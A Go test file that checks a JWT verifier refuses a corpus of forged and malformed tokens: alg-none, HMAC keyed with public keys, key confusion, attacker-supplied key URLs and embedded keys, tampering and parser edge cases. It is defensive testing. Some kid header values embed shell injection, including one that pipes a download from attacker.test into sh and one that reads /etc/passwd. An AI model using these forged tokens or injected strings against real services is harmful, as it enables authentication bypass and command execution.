// Token corpus. Threats proved mitigated here, each by the subtests of
// TestTokenCorpus named after it:
//
//   - forged tokens that skip or weaken the signature: "alg": "none" in any
//     case (alg-none-*), HMAC signed with a public key as the secret
//     (hs256-with-*), algorithm/key confusion (alg-*-with-*-key, jwks-*);
//   - key selection steered by the token: kid path traversal and injection
//     (kid-*), keys or key URLs carried in the header (jku-*, x5u-*, jwk-*,
//     x5c-*; the attacker's server must receive no request), unknown critical
//     extensions (crit-*), nested tokens (cty-*), another issuer's genuine key
//     (other-issuer-*);
//   - stale, early or misdirected tokens: exp, nbf, iat, iss, aud (claims-*);
//   - tampering: payload, signature, splicing (tampered-*);
//   - parser differentials and resource use: oversized and many-dot tokens,
//     bad part counts, non-base64url or padded parts, white space, non-JSON or
//     non-object parts, duplicate keys, trailing data, invalid UTF-8, deep
//     nesting, out-of-range numbers (shape-*, json-*, number-*).
//
// Every case must be refused with ErrUnauthenticated, which the gate turns
// into 401. The control-* cases are accepted, so the table can fail.
package identity

import (
	"context"
	"crypto"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/stretchr/testify/require"

	"github.com/elevate-pam/elevate/internal/clocktest"
)

const (
	corpusJWKSIssuer  = "https://jwks-idp.example.test"
	corpusOtherIssuer = "https://other-idp.example.test"
)

// corpusEnv is a Verifier trusting three issuers, and a server standing for
// the attacker's key URLs.
type corpusEnv struct {
	v            *Verifier
	clk          *clocktest.Clock
	attacker     *httptest.Server
	attackerHits *atomic.Int64
	jwks         *jwksServer
}

// newCorpusEnv trusts testIssuer (RSA, EC P-256 and Ed25519 keys in code),
// corpusJWKSIssuer (a JWKS server) and corpusOtherIssuer (its own EC key).
func newCorpusEnv(t testing.TB) *corpusEnv {
	t.Helper()
	env := &corpusEnv{clk: newClock(), attackerHits: new(atomic.Int64)}
	env.attacker = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		env.attackerHits.Add(1)
		w.Header().Set("Content-Type", "application/json")
		_, _ = fmt.Fprintf(w, `{"keys":[%s]}`, mustJSON(rsaJWK("attacker", &attackerKey().PublicKey, nil)))
	}))
	t.Cleanup(env.attacker.Close)
	env.jwks = newJWKSServer(t,
		rsaJWK("jr1", &rsaKey().PublicKey, map[string]any{"use": "sig", "alg": "RS256"}),
		rsaJWK("jr512", &rsaKey2().PublicKey, map[string]any{"alg": "RS512"}),
		ecJWK(t, "je1", &ecKey().PublicKey, nil),
	)
	static := Issuer{
		Issuer:   testIssuer,
		Audience: []string{testAudience},
		Keys: map[string]crypto.PublicKey{
			"rsa1": &rsaKey().PublicKey,
			"ec1":  &ecKey().PublicKey,
			"ed1":  edKey().Public(),
		},
		Algorithms: []string{"RS256", "ES256", "EdDSA"},
	}
	fromJWKS := Issuer{Issuer: corpusJWKSIssuer, Audience: []string{testAudience}, JWKSURL: env.jwks.URL + "/jwks.json"}
	other := Issuer{
		Issuer: corpusOtherIssuer, Audience: []string{"other-audience"},
		Keys: map[string]crypto.PublicKey{"o1": &ecKey2().PublicKey},
	}
	env.v = newVerifier(t, env.clk, Config{Issuers: []Issuer{static, fromJWKS, other}})
	return env
}

// mustJSON is the JSON text of v, which must encode.
func mustJSON(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// corpusCase is one token of the corpus.
type corpusCase struct {
	name   string
	token  string
	reason string // the refusal expected; empty for a control case
}

// tokenCorpus builds the corpus against env. Its tokens are also the seeds of
// FuzzTokenFront.
func tokenCorpus(t testing.TB, env *corpusEnv) []corpusCase {
	t.Helper()
	now := env.clk.Now()
	good := claimsAt(now)
	good["groups"] = []string{"ops"}
	rs := func(c jwt.MapClaims) string { return sign(t, jwt.SigningMethodRS256, rsaKey(), kid("rsa1"), c) }
	valid := rs(good)
	p := parts(t, valid)

	// Public keys as an attacker would find them, to use as HMAC secrets.
	rsaPKIX, err := x509.MarshalPKIXPublicKey(&rsaKey().PublicKey)
	require.NoError(t, err)
	rsaPEM := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: rsaPKIX})
	rsaPKCS1PEM := pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(&rsaKey().PublicKey)})
	ecPKIX, err := x509.MarshalPKIXPublicKey(&ecKey().PublicKey)
	require.NoError(t, err)
	ecPEM := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: ecPKIX})
	ecPoint, err := ecKey().PublicKey.Bytes()
	require.NoError(t, err)
	edPub := []byte(edKey().Public().(ed25519.PublicKey))
	jr1JWK := []byte(mustJSON(rsaJWK("jr1", &rsaKey().PublicKey, map[string]any{"use": "sig", "alg": "RS256"})))

	hs := func(secret []byte, header map[string]any, c jwt.MapClaims) string {
		return sign(t, jwt.SigningMethodHS256, secret, header, c)
	}
	withIss := func(iss string) jwt.MapClaims { return with(good, "iss", iss) }

	// JSON text of the good claims with one member's raw text replaced,
	// added (key not in good) or removed (value "").
	payload := func(kv ...string) string {
		members := []string{
			fmt.Sprintf(`"iss":%q`, testIssuer), fmt.Sprintf(`"aud":%q`, testAudience), `"sub":"alice"`,
			fmt.Sprintf(`"iat":%d`, now.Unix()), fmt.Sprintf(`"exp":%d`, now.Add(time.Hour).Unix()),
		}
		for i := 0; i < len(kv); i += 2 {
			k, val := kv[i], kv[i+1]
			found := false
			for j, m := range members {
				if strings.HasPrefix(m, fmt.Sprintf("%q:", k)) {
					found = true
					if val == "" {
						members = append(members[:j], members[j+1:]...)
					} else {
						members[j] = fmt.Sprintf("%q:%s", k, val)
					}
					break
				}
			}
			if !found && val != "" {
				members = append(members, fmt.Sprintf("%q:%s", k, val))
			}
		}
		return "{" + strings.Join(members, ",") + "}"
	}
	const rsHeader = `{"alg":"RS256","kid":"rsa1","typ":"JWT"}`
	rawRS := func(header, body string) string { return signRaw(t, jwt.SigningMethodRS256, rsaKey(), header, body) }
	noneToken := func(alg string) string {
		return b64([]byte(fmt.Sprintf(`{"alg":%q,"kid":"rsa1"}`, alg))) + "." + p[1] + "."
	}

	// A self-signed certificate for the attacker's key, for x5c.
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: testIssuer},
		NotBefore: now.Add(-time.Hour), NotAfter: now.Add(time.Hour),
	}
	certDER, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &attackerKey().PublicKey, attackerKey())
	require.NoError(t, err)
	x5c := []string{base64.StdEncoding.EncodeToString(certDER)}
	attackerJWK := rsaJWK("attacker", &attackerKey().PublicKey, nil)
	evil := func(header map[string]any) string {
		return sign(t, jwt.SigningMethodRS256, attackerKey(), header, good)
	}

	flipped := func() string {
		sig, err := base64.RawURLEncoding.DecodeString(p[2])
		require.NoError(t, err)
		sig[len(sig)/2] ^= 0x01
		return p[0] + "." + p[1] + "." + b64(sig)
	}()
	truncated := func() string {
		sig, err := base64.RawURLEncoding.DecodeString(p[2])
		require.NoError(t, err)
		return b64(sig[:len(sig)-3])
	}()
	other := parts(t, rs(with(good, "sub", "bob", "jti", "j-2")))
	nested := sign(t, jwt.SigningMethodRS256, rsaKey(), kid("rsa1"), with(good, "sub", "inner"))
	deep := strings.Repeat(`{"a":`, 40) + "1" + strings.Repeat("}", 40)

	jwksGood := with(good, "iss", corpusJWKSIssuer)
	otherGood := with(good, "iss", corpusOtherIssuer, "aud", "other-audience")

	return []corpusCase{
		// Controls: properly signed tokens pass.
		{name: "control-rs256", token: valid},
		{name: "control-es256", token: sign(t, jwt.SigningMethodES256, ecKey(), kid("ec1"), good)},
		{name: "control-eddsa", token: sign(t, jwt.SigningMethodEdDSA, edKey(), kid("ed1"), good)},
		{name: "control-jwks-rs256", token: sign(t, jwt.SigningMethodRS256, rsaKey(), kid("jr1"), jwksGood)},
		{name: "control-jwks-es256", token: sign(t, jwt.SigningMethodES256, ecKey(), kid("je1"), jwksGood)},
		{name: "control-other-issuer", token: sign(t, jwt.SigningMethodES256, ecKey2(), kid("o1"), otherGood)},

		// Unsigned tokens.
		{name: "alg-none", token: noneToken("none"), reason: "signing algorithm not allowed"},
		{name: "alg-none-capitalised", token: noneToken("None"), reason: "signing algorithm not allowed"},
		{name: "alg-none-upper-case", token: noneToken("NONE"), reason: "signing algorithm not allowed"},
		{name: "alg-none-with-signature", token: noneToken("none") + p[2], reason: "signing algorithm not allowed"},
		{name: "alg-none-golang-jwt", token: sign(t, jwt.SigningMethodNone, jwt.UnsafeAllowNoneSignatureType, kid("rsa1"), good), reason: "signing algorithm not allowed"},
		{name: "alg-missing", token: b64([]byte(`{"kid":"rsa1"}`)) + "." + p[1] + "." + p[2], reason: "signing algorithm not allowed"},
		{name: "alg-empty", token: b64([]byte(`{"alg":"","kid":"rsa1"}`)) + "." + p[1] + "." + p[2], reason: "signing algorithm not allowed"},
		{name: "alg-lower-case-rs256", token: b64([]byte(`{"alg":"rs256","kid":"rsa1"}`)) + "." + p[1] + "." + p[2], reason: "signing algorithm not allowed"},
		{name: "alg-not-a-string", token: b64([]byte(`{"alg":["RS256"],"kid":"rsa1"}`)) + "." + p[1] + "." + p[2], reason: "signing algorithm not allowed"},

		// HMAC with a public key as the shared secret.
		{name: "hs256-with-rsa-public-pem", token: hs(rsaPEM, kid("rsa1"), good), reason: "signing algorithm not allowed"},
		{name: "hs256-with-rsa-public-der", token: hs(rsaPKIX, kid("rsa1"), good), reason: "signing algorithm not allowed"},
		{name: "hs256-with-rsa-pkcs1-pem", token: hs(rsaPKCS1PEM, kid("rsa1"), good), reason: "signing algorithm not allowed"},
		{name: "hs256-with-ec-public-pem", token: hs(ecPEM, kid("ec1"), good), reason: "signing algorithm not allowed"},
		{name: "hs256-with-ec-public-point", token: hs(ecPoint, kid("ec1"), good), reason: "signing algorithm not allowed"},
		{name: "hs256-with-ed25519-public-key", token: hs(edPub, kid("ed1"), good), reason: "signing algorithm not allowed"},
		{name: "hs256-with-jwk-json", token: hs(jr1JWK, kid("jr1"), jwksGood), reason: "signing algorithm not allowed"},
		{name: "hs512-with-rsa-public-pem", token: sign(t, jwt.SigningMethodHS512, rsaPEM, kid("rsa1"), good), reason: "signing algorithm not allowed"},

		// kid tricks.
		{name: "kid-path-traversal-dev-null", token: hs(nil, kid("../../dev/null"), good), reason: "signing algorithm not allowed"},
		{name: "kid-path-traversal-rs256", token: evil(kid("../../dev/null")), reason: "unknown signing key"},
		{name: "kid-absolute-path", token: evil(kid("/etc/elevate/keys/rsa1.pem")), reason: "unknown signing key"},
		{name: "kid-encoded-traversal", token: evil(kid("..%2f..%2fdev%2fnull")), reason: "unknown signing key"},
		{name: "kid-nul-byte", token: evil(kid("rsa1\x00.pem")), reason: "unknown signing key"},
		{name: "kid-sql-injection", token: evil(kid("x' UNION SELECT 'rsa1' --")), reason: "unknown signing key"},
		{name: "kid-sql-injection-hs256", token: hs([]byte("secret"), kid("' OR '1'='1"), good), reason: "signing algorithm not allowed"},
		{name: "kid-command-injection", token: evil(kid("rsa1; curl http://attacker.test | sh")), reason: "unknown signing key"},
		{name: "kid-command-substitution", token: evil(kid("$(cat /etc/passwd)`id`")), reason: "unknown signing key"},
		{name: "kid-case-variant", token: evil(kid("RSA1")), reason: "unknown signing key"},
		{name: "kid-with-trailing-space", token: sign(t, jwt.SigningMethodRS256, rsaKey(), kid("rsa1 "), good), reason: "unknown signing key"},
		{name: "kid-number", token: sign(t, jwt.SigningMethodRS256, rsaKey(), map[string]any{"kid": 1}, good), reason: "malformed kid header"},
		{name: "kid-array", token: sign(t, jwt.SigningMethodRS256, rsaKey(), map[string]any{"kid": []string{"rsa1"}}, good), reason: "malformed kid header"},
		{name: "kid-wrong-key-type-ec", token: sign(t, jwt.SigningMethodRS256, rsaKey(), kid("ec1"), good), reason: "signing key does not fit the algorithm"},
		{name: "kid-wrong-key-type-ed25519", token: sign(t, jwt.SigningMethodRS256, rsaKey(), kid("ed1"), good), reason: "signing key does not fit the algorithm"},
		{name: "kid-absent-with-several-keys", token: sign(t, jwt.SigningMethodRS256, rsaKey(), nil, good), reason: "unknown signing key"},

		// Algorithm and key confusion.
		{name: "alg-rs256-with-ec-key", token: sign(t, jwt.SigningMethodRS256, rsaKey(), kid("ec1"), good), reason: "signing key does not fit the algorithm"},
		{name: "alg-es256-with-rsa-key", token: sign(t, jwt.SigningMethodES256, ecKey(), kid("rsa1"), good), reason: "signing key does not fit the algorithm"},
		{name: "alg-eddsa-with-rsa-key", token: sign(t, jwt.SigningMethodEdDSA, edKey(), kid("rsa1"), good), reason: "signing key does not fit the algorithm"},
		{name: "alg-es384-not-allowed", token: sign(t, jwt.SigningMethodES384, genEC(elliptic.P384()), kid("ec1"), good), reason: "signing algorithm not allowed"},
		{name: "alg-ps256-not-allowed", token: sign(t, jwt.SigningMethodPS256, rsaKey(), kid("rsa1"), good), reason: "signing algorithm not allowed"},
		{name: "jwks-alg-differs-from-jwk-alg", token: sign(t, jwt.SigningMethodRS256, rsaKey2(), kid("jr512"), jwksGood), reason: "signing key does not fit the algorithm"},
		{name: "jwks-es256-with-rsa-jwk", token: sign(t, jwt.SigningMethodES256, ecKey(), kid("jr1"), jwksGood), reason: "signing key does not fit the algorithm"},
		{name: "jwks-rs256-with-ec-jwk", token: sign(t, jwt.SigningMethodRS256, rsaKey(), kid("je1"), jwksGood), reason: "signing key does not fit the algorithm"},
		{name: "jwks-unknown-kid", token: sign(t, jwt.SigningMethodRS256, attackerKey(), kid("attacker"), jwksGood), reason: "unknown signing key"},
		{name: "jwks-no-kid", token: sign(t, jwt.SigningMethodRS256, rsaKey(), nil, jwksGood), reason: "unknown signing key"},

		// Keys and key URLs in the header are never fetched nor trusted.
		{name: "jku-attacker-jwks", token: evil(map[string]any{"kid": "attacker", "jku": env.attacker.URL + "/jwks.json"}), reason: "unknown signing key"},
		{name: "jku-attacker-jwks-trusted-kid", token: evil(map[string]any{"kid": "rsa1", "jku": env.attacker.URL + "/jwks.json"}), reason: "invalid signature"},
		{name: "jku-attacker-jwks-on-jwks-issuer", token: sign(t, jwt.SigningMethodRS256, attackerKey(), map[string]any{"kid": "attacker", "jku": env.attacker.URL + "/jwks.json"}, jwksGood), reason: "unknown signing key"},
		{name: "x5u-attacker-certificate", token: evil(map[string]any{"kid": "attacker", "x5u": env.attacker.URL + "/cert.pem"}), reason: "unknown signing key"},
		{name: "jwk-embedded-attacker-key", token: evil(map[string]any{"kid": "attacker", "jwk": attackerJWK}), reason: "unknown signing key"},
		{name: "jwk-embedded-attacker-key-no-kid", token: evil(map[string]any{"jwk": attackerJWK}), reason: "unknown signing key"},
		{name: "x5c-attacker-certificate", token: evil(map[string]any{"x5c": x5c}), reason: "unknown signing key"},
		{name: "x5c-attacker-certificate-trusted-kid", token: evil(map[string]any{"kid": "rsa1", "x5c": x5c}), reason: "invalid signature"},

		// Critical extensions and nested tokens.
		{name: "crit-unknown-extension", token: sign(t, jwt.SigningMethodRS256, rsaKey(), map[string]any{"kid": "rsa1", "crit": []string{"urn:x-evil"}, "urn:x-evil": true}, good), reason: "critical header not supported"},
		{name: "crit-b64-false", token: sign(t, jwt.SigningMethodRS256, rsaKey(), map[string]any{"kid": "rsa1", "crit": []string{"b64"}, "b64": false}, good), reason: "critical header not supported"},
		{name: "crit-empty", token: sign(t, jwt.SigningMethodRS256, rsaKey(), map[string]any{"kid": "rsa1", "crit": []string{}}, good), reason: "critical header not supported"},
		{name: "cty-jwt-nested-token", token: rawRS(`{"alg":"RS256","kid":"rsa1","cty":"JWT"}`, `"`+nested+`"`), reason: "malformed token"},
		{name: "cty-jwt-with-claims", token: sign(t, jwt.SigningMethodRS256, rsaKey(), map[string]any{"kid": "rsa1", "cty": "JWT"}, good), reason: "content type header not supported"},

		// Claims.
		{name: "claims-expired", token: rs(with(good, "exp", now.Add(-time.Hour).Unix())), reason: "token expired"},
		{name: "claims-expired-beyond-leeway", token: rs(with(good, "exp", now.Add(-defaultLeeway).Unix())), reason: "token expired"},
		{name: "claims-nbf-in-future", token: rs(with(good, "nbf", now.Add(time.Hour).Unix())), reason: "token not valid yet"},
		{name: "claims-iat-in-future", token: rs(with(good, "iat", now.Add(defaultLeeway+time.Second).Unix())), reason: "token issued in the future"},
		{name: "claims-wrong-iss", token: rs(withIss("https://evil.example.test")), reason: "unknown issuer"},
		{name: "claims-iss-trailing-slash", token: rs(withIss(testIssuer + "/")), reason: "unknown issuer"},
		{name: "claims-wrong-aud", token: rs(with(good, "aud", "someone-else")), reason: "wrong audience"},
		{name: "claims-aud-empty-array", token: rs(with(good, "aud", []string{})), reason: "missing aud claim"},
		{name: "claims-missing-exp", token: rs(with(good, "exp", nil)), reason: "missing exp claim"},
		{name: "claims-missing-sub", token: rs(with(good, "sub", nil)), reason: "missing subject"},
		{name: "claims-missing-iss", token: rs(with(good, "iss", nil)), reason: "missing iss claim"},
		{name: "claims-missing-aud", token: rs(with(good, "aud", nil)), reason: "missing aud claim"},
		{name: "other-issuer-key-claiming-our-iss", token: sign(t, jwt.SigningMethodES256, ecKey2(), kid("o1"), good), reason: "unknown signing key"},
		{name: "other-issuer-key-under-our-kid", token: sign(t, jwt.SigningMethodES256, ecKey2(), kid("ec1"), good), reason: "invalid signature"},
		{name: "other-issuer-token-for-our-audience", token: sign(t, jwt.SigningMethodES256, ecKey2(), kid("o1"), with(otherGood, "aud", testAudience)), reason: "wrong audience"},
		{name: "jwks-issuer-key-claiming-static-iss", token: sign(t, jwt.SigningMethodRS256, rsaKey2(), kid("jr512"), good), reason: "unknown signing key"},

		// Tampering.
		{name: "tampered-payload", token: p[0] + "." + b64JSON(t, with(good, "sub", "root")) + "." + p[2], reason: "invalid signature"},
		{name: "tampered-payload-groups", token: p[0] + "." + b64JSON(t, with(good, "groups", []string{"admins"})) + "." + p[2], reason: "invalid signature"},
		{name: "tampered-header-kid", token: b64([]byte(`{"alg":"RS256","kid":"ec1","typ":"JWT"}`)) + "." + p[1] + "." + p[2], reason: "signing key does not fit the algorithm"},
		{name: "tampered-signature", token: flipped, reason: "invalid signature"},
		{name: "tampered-signature-spliced", token: p[0] + "." + p[1] + "." + other[2], reason: "invalid signature"},
		{name: "tampered-signature-truncated", token: p[0] + "." + p[1] + "." + truncated, reason: "invalid signature"},
		{name: "tampered-signature-stripped", token: p[0] + "." + p[1] + ".", reason: "invalid signature"},

		// Shape.
		{name: "shape-oversized-signed", token: rs(with(good, "pad", strings.Repeat("x", maxTokenSize))), reason: "token too large"},
		{name: "shape-oversized-one-mebibyte", token: strings.Repeat("A", 1<<20), reason: "token too large"},
		{name: "shape-many-dots", token: valid + strings.Repeat(".", 1000), reason: "malformed token"},
		{name: "shape-only-dots", token: strings.Repeat(".", 100), reason: "malformed token"},
		{name: "shape-two-parts", token: p[0] + "." + p[1], reason: "malformed token"},
		{name: "shape-one-part", token: p[1], reason: "malformed token"},
		{name: "shape-four-parts", token: valid + "." + p[2], reason: "malformed token"},
		{name: "shape-five-parts-jwe", token: p[0] + ".." + p[1] + "." + p[2] + ".AAAA", reason: "malformed token"},
		{name: "shape-empty-header", token: "." + p[1] + "." + p[2], reason: "malformed token"},
		{name: "shape-standard-base64", token: p[0] + "." + p[1] + "." + strings.NewReplacer("-", "+", "_", "/").Replace(p[2]) + "+/", reason: "malformed token"},
		{name: "shape-padding", token: p[0] + "." + p[1] + "." + p[2] + "==", reason: "malformed token"},
		{name: "shape-padding-in-header", token: p[0] + "=." + p[1] + "." + p[2], reason: "malformed token"},
		{name: "shape-non-zero-trailing-bits", token: p[0] + "." + p[1] + "." + p[2][:len(p[2])-1] + bumpLast(p[2]), reason: "malformed token"},
		{name: "shape-empty-token", token: "", reason: "no token"},
		{name: "shape-whitespace-only", token: " \t\r\n", reason: "malformed token"},
		{name: "shape-leading-space", token: " " + valid, reason: "malformed token"},
		{name: "shape-trailing-space", token: valid + " ", reason: "malformed token"},
		{name: "shape-trailing-newline", token: valid + "\n", reason: "malformed token"},
		{name: "shape-newline-in-signature", token: p[0] + "." + p[1] + "." + p[2][:10] + "\r\n" + p[2][10:], reason: "malformed token"},
		{name: "shape-tab-in-payload", token: p[0] + "." + p[1][:10] + "\t" + p[1][10:] + "." + p[2], reason: "malformed token"},
		{name: "shape-bearer-prefix", token: "Bearer " + valid, reason: "malformed token"},
		{name: "shape-bearer-twice", token: "Bearer Bearer " + valid, reason: "malformed token"},
		{name: "shape-non-ascii", token: p[0] + "." + p[1] + "." + p[2] + "é", reason: "malformed token"},

		// JSON.
		{name: "json-header-not-json", token: b64([]byte("not json")) + "." + p[1] + "." + p[2], reason: "malformed token"},
		{name: "json-payload-not-json", token: p[0] + "." + b64([]byte(`{"sub":"alice"`)) + "." + p[2], reason: "malformed token"},
		{name: "json-header-array", token: b64([]byte(`[{"alg":"RS256"}]`)) + "." + p[1] + "." + p[2], reason: "malformed token"},
		{name: "json-payload-string", token: rawRS(rsHeader, `"alice"`), reason: "malformed token"},
		{name: "json-payload-number", token: rawRS(rsHeader, `1`), reason: "malformed token"},
		{name: "json-payload-null", token: rawRS(rsHeader, `null`), reason: "malformed token"},
		{name: "json-duplicate-sub", token: rawRS(rsHeader, strings.TrimSuffix(payload(), "}")+`,"sub":"root"}`), reason: "malformed token"},
		{name: "json-duplicate-exp", token: rawRS(rsHeader, strings.TrimSuffix(payload(), "}")+fmt.Sprintf(`,"exp":%d}`, now.Add(1000*time.Hour).Unix())), reason: "malformed token"},
		{name: "json-duplicate-iss", token: rawRS(rsHeader, strings.TrimSuffix(payload(), "}")+`,"iss":"https://evil.example.test"}`), reason: "malformed token"},
		{name: "json-duplicate-escaped-key", token: rawRS(rsHeader, strings.TrimSuffix(payload(), "}")+`,"s\u0075b":"root"}`), reason: "malformed token"},
		{name: "json-duplicate-nested-key", token: rawRS(rsHeader, strings.TrimSuffix(payload(), "}")+`,"realm":{"role":"user","role":"admin"}}`), reason: "malformed token"},
		{name: "json-duplicate-alg-header", token: rawRS(`{"alg":"none","alg":"RS256","kid":"rsa1"}`, payload()), reason: "malformed token"},
		{name: "json-duplicate-kid-header", token: rawRS(`{"alg":"RS256","kid":"ec1","kid":"rsa1"}`, payload()), reason: "malformed token"},
		{name: "json-trailing-data", token: rawRS(rsHeader, payload()+`{"sub":"root"}`), reason: "malformed token"},
		{name: "json-invalid-utf8", token: rawRS(rsHeader, payload("sub", "\"ali\xffce\"")), reason: "malformed token"},
		{name: "json-deep-nesting", token: rawRS(rsHeader, payload("deep", deep)), reason: "malformed token"},
		{name: "json-byte-order-mark", token: rawRS("\ufeff"+rsHeader, payload()), reason: "malformed token"},

		// Numbers.
		{name: "number-exp-string", token: rs(with(good, "exp", fmt.Sprint(now.Add(time.Hour).Unix()))), reason: "malformed claims"},
		{name: "number-exp-boolean", token: rs(with(good, "exp", true)), reason: "malformed claims"},
		{name: "number-exp-float-overflow", token: rawRS(rsHeader, payload("exp", "1e400")), reason: "malformed token"},
		{name: "number-exp-beyond-int64", token: rawRS(rsHeader, payload("exp", "1e300")), reason: "malformed claims"},
		{name: "number-exp-beyond-year-9999", token: rawRS(rsHeader, payload("exp", "253402300800")), reason: "malformed claims"},
		{name: "number-exp-negative", token: rawRS(rsHeader, payload("exp", "-1e300")), reason: "malformed claims"},
		{name: "number-nbf-negative-huge", token: rawRS(rsHeader, payload("nbf", "-1e300")), reason: "malformed claims"},
		{name: "number-iat-beyond-int64", token: rawRS(rsHeader, payload("iat", "9.3e18")), reason: "malformed claims"},
	}
}

// bumpLast returns the last character of a base64url segment moved by one, so
// that the segment decodes to the same bytes only if trailing bits were
// ignored.
func bumpLast(seg string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	i := strings.IndexByte(alphabet, seg[len(seg)-1])
	return string(alphabet[i^1])
}

func TestTokenCorpus(t *testing.T) {
	env := newCorpusEnv(t)
	cases := tokenCorpus(t, env)
	refusals := 0
	for _, tc := range cases {
		if tc.reason != "" {
			refusals++
		}
	}
	require.GreaterOrEqual(t, refusals, 40)

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			id, err := env.v.Verify(context.Background(), tc.token)
			if tc.reason == "" {
				require.NoError(t, err)
				require.Equal(t, "alice", id.Subject)
				return
			}
			requireRefused(t, err, tc.reason, tc.token)
			require.Zero(t, id)
			// Twice: a refusal is never cached as an acceptance, and the
			// cache does not change the answer.
			_, err = env.v.Verify(context.Background(), tc.token)
			requireRefused(t, err, tc.reason, tc.token)
		})
	}
	require.Zero(t, env.attackerHits.Load(), "a key URL from a token header was fetched")
}
